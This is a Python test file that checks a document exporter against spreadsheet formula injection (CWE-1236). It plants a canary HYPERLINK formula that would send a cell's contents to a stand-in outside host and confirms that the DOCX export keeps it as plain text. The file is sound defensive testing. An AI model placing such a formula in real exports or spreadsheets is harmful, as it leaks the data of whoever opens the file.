"""No export may hold what a spreadsheet program would run: cells that begin with = + - @ (CWE-1236)."""

from dataclasses import replace

from docx import Document

from reader.exporters.registry import exporters

SPREADSHEETS = {".csv", ".tsv", ".tab", ".xls", ".xlsx", ".xlsm", ".ods", ".txt", ".dif", ".slk"}
"""What spreadsheet programs open and take formulas from."""

ESCAPING = frozenset()
"""Names of exporters to such files that have a test of their own here, which must show for evidence beginning with
each of = + - @ TAB CR (also full-width ＝ ＋ － ＠) that the cell is text: behind an apostrophe in CSV, of type string
in XLSX. Termbases as CSV and TSV: tests/text/terms/test_exchange.py."""


def test_no_exporter_writes_spreadsheets_without_a_test_of_its_escaping():
    """Today there are pages, documents and JSON lines, none of which a program computes. This fails when one is added
    that a spreadsheet program opens, until its escaping is tested here."""
    writes = {
        name: sorted(set(map(str.lower, exporter.suffixes)) & SPREADSHEETS)
        for name, exporter in exporters.all().items()
    }
    assert {name: found for name, found in writes.items() if found and name not in ESCAPING} == {}
    assert set(exporters.all()) >= ESCAPING


def test_a_formula_in_the_evidence_stays_text_where_a_table_is_written(realistic, tmp_path):
    """The tables of the document hold no fields: what looks like a formula is a run of text as any other."""
    attack = '=HYPERLINK("http://canary.invalid/"&A1,"看")'
    first = realistic.documents[0]
    spoilt = replace(first.rows[0], segment=replace(first.rows[0].segment, text=attack))
    part = replace(first, rows=(spoilt, *first.rows[1:]))
    exhibit = replace(realistic, documents=(part, *realistic.documents[1:]))
    exporters.get("docx").write(exhibit, tmp_path / "a.docx")
    document = Document(tmp_path / "a.docx")
    texts = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert any(attack in text for text in texts)
    codes = document.element.body.xpath(".//w:instrText | .//w:fldSimple")
    assert not any("canary" in (code.text or "") for code in codes)
